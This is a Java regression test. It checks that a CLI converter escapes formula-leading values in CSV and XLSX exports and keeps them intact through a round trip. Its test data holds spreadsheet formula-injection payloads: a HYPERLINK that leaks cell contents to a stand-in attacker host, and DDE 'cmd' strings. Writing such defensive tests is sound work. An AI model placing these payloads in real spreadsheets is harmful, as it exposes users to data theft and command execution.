package org.matterstandards.sdk.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.matterstandards.sdk.TestData;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Regression, issue 12 (b): {@code matter convert --to csv} wrote formula-leading values unchanged, so Excel or WPS
 * ran {@code =HYPERLINK(…)} when a clerk opened the file. The CSV writer now puts an apostrophe in front, the XLSX
 * writer marks such a text cell quote-prefixed, and both round-trip through {@code matter convert} unchanged.
 */
class FormulaInjectionTest {

    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.invalid/?\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=already marked", "''+twice", "'plain apostrophe", "普通文本=不是公式");

    @TempDir
    Path dir;

    private Path records() throws Exception {
        ArrayNode sample = (ArrayNode) JsonMapper.builder().build().readTree(Files.readString(TestData.SAMPLE));
        ArrayNode records = sample.arrayNode();
        for (int i = 0; i < HOSTILE.size(); i++) {
            ObjectNode record = (ObjectNode) sample.get(0).deepCopy();
            record.put("taskName", HOSTILE.get(i));
            // Child rows find their item by task code: one code per record.
            String code = sample.get(0).get("taskCode").asString();
            record.put("taskCode", code.substring(0, code.length() - 3) + String.format("%03d", i));
            ((ObjectNode) record.get("materials").get(0)).put("materialName", HOSTILE.get(i));
            records.add(record);
        }
        return Files.writeString(dir.resolve("hostile.json"), records.toString(), StandardCharsets.UTF_8);
    }

    private static List<String> values(Path json, String pointer) throws Exception {
        JsonNode all = JsonMapper.builder().build().readTree(Files.readString(json));
        return all.valueStream().map(record -> record.at(pointer).asString()).toList();
    }

    @Test
    void csvCellsThatStartLikeAFormulaAreMarkedAndComeBackUnchanged() throws Exception {
        Path csv = dir.resolve("out.csv");
        assertThat(CliRun.of("convert", "--to", "csv", records().toString(), "-o", csv.toString()).exitCode())
                .isZero();
        for (Path file : List.of(csv, dir.resolve("out.materials.csv"))) {
            String text = Files.readString(file, StandardCharsets.UTF_8);
            // A cell starts a line or follows a comma; a value with quotes or a line break is quoted.
            String cell = "(?m)(^|,)\"?";
            for (String formula : List.of("=HYPERLINK", "\\+cmd", "-2\\+3", "@SUM", "\t=1", "\r=1")) {
                assertThat(text).doesNotContainPattern(cell + formula).containsPattern(cell + "'" + formula);
            }
            assertThat(text).containsPattern(cell + "''=already marked").containsPattern(cell + "'''\\+twice")
                    .containsPattern(cell + "'plain apostrophe,").containsPattern(cell + "普通文本=不是公式,");
        }
        Path back = dir.resolve("back.json");
        assertThat(CliRun.of("convert", "--to", "json", csv.toString(), "-o", back.toString()).exitCode()).isZero();
        assertThat(values(back, "/taskName")).containsExactlyElementsOf(HOSTILE);
        assertThat(values(back, "/materials/0/materialName")).containsExactlyElementsOf(HOSTILE);
    }

    @Test
    void xlsxCellsThatStartLikeAFormulaAreQuotePrefixedTextAndComeBackUnchanged() throws Exception {
        Path xlsx = dir.resolve("out.xlsx");
        assertThat(CliRun.of("convert", "--to", "xlsx", records().toString(), "-o", xlsx.toString()).exitCode())
                .isZero();
        try (InputStream in = Files.newInputStream(xlsx); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            Sheet items = workbook.getSheet("事项");
            int column = -1;
            for (Cell header : items.getRow(0)) {
                if (header.getStringCellValue().equals("事项名称")) {
                    column = header.getColumnIndex();
                }
            }
            for (int r = 1; r <= HOSTILE.size(); r++) {
                Row row = items.getRow(r);
                Cell cell = row.getCell(column);
                String value = HOSTILE.get(r - 1);
                assertThat(cell.getCellType()).isEqualTo(org.apache.poi.ss.usermodel.CellType.STRING);
                assertThat(cell.getStringCellValue()).isEqualTo(value);
                boolean formulaLike = "=+-@\t\r".indexOf(value.charAt(0)) >= 0;
                assertThat(cell.getCellStyle().getQuotePrefixed()).as(value).isEqualTo(formulaLike);
            }
        }
        Path back = dir.resolve("back.json");
        assertThat(CliRun.of("convert", "--to", "json", xlsx.toString(), "-o", back.toString()).exitCode()).isZero();
        assertThat(values(back, "/taskName")).containsExactlyElementsOf(HOSTILE);
    }
}
